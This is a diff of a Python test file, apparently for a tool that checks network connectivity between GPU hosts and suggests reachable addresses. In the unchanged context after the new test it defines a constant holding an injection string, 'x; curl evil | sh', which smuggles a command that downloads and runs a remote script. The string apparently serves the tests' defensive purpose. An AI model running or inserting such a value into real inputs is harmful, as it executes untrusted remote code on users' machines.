@@ -364,6 +364,14 @@ def test_another_address_in_a_common_network_is_suggested() -> None:
         assert ('set `address` to "10.1.0.1", in a network of gpu-02' in failure.hint) == suggested, failure
 
 
+def test_an_address_that_leads_nowhere_is_replaced_by_one_in_a_common_network() -> None:
+    of_one = [{"name": "eth0", "ip": "192.0.2.1"}, {"name": "ib0", "ip": "10.0.0.1"}]
+    one = report("gpu-01", host__address="localhost", facts__addresses=of_one)
+    pair = PairReported("gpu-02", "gpu-01", "localhost:2222", False, None, None, "refused", "127.0.0.1")
+    (failure,) = [each for each in examined(one, report("gpu-02"), pairs=[pair]) if each.level is F]
+    assert "such as 10.0.0.1;" in failure.hint
+
+
 EVIL = "x; curl evil | sh"
 MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
 
